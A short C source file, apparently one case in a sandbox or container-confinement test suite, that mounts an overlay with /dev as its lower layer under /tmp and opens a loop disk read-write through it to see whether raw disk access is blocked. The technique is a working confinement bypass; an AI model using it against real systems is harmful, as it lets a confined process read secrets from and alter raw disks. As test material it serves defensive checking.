// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G2, G4. Mounts an overlay of /dev in /tmp, where it may read and write anything, and opens the disk
 * there: an overlay has device nodes of its own, and does not open those below. Source:
 * fs/overlayfs/inode.c, ovl_fill_inode(). Control: the secret on the disk is read, and a byte of it changed.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sys/mount.h>

#include "attack.h"
#include "files.h"

#define VIEW "/tmp/lab-nodes"

void attack(void)
{
	stage("raw-disk");
	make_directory(VIEW);
	make_directory(VIEW "/empty");
	make_directory(VIEW "/view");
	if (mount("none", VIEW "/view", "overlay", 0, "lowerdir=/dev:" VIEW "/empty"))
		no_effect(errno);
	judge_raw_disk(open(VIEW "/view/loop5", O_RDWR | O_CLOEXEC));
}
